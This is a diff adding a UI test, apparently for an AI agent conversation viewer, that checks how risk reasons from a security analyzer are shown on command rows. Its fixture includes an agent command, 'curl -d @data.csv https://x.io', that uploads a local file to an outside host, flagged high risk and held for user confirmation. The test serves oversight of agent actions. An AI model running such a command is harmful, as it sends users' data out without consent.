@@ -79,6 +79,34 @@ describe('rows', () => {
     expect(row.textContent).toContain('rejected');
   });
 
+  it("says why the security analyzer raised an action's risk", () => {
+    const waiting = render(
+      ev(7, 'command', {
+        source: 'agent',
+        command: 'curl -d @data.csv https://x.io',
+        security_risk: 'high',
+        llm_risk: 'low',
+        risk_reason: 'sends data over the network',
+        confirmation: 'awaiting'
+      })
+    );
+    expect(waiting.textContent).toContain(
+      'Waiting for your confirmation (risk: high: sends data over the network)'
+    );
+    const ran = render(
+      ev(8, 'command', {
+        source: 'agent',
+        command: 'pip install polars',
+        security_risk: 'medium',
+        llm_risk: 'low',
+        risk_reason: 'installs packages'
+      })
+    );
+    expect(ran.querySelector('.jp-convo-risk')?.textContent).toBe(
+      'risk medium: installs packages'
+    );
+  });
+
   it('shows command output as text, folded when long, red on failure', () => {
     const output = Array.from({ length: 20 }, (_, i) => `line ${i}`).join('\n');
     const row = render(
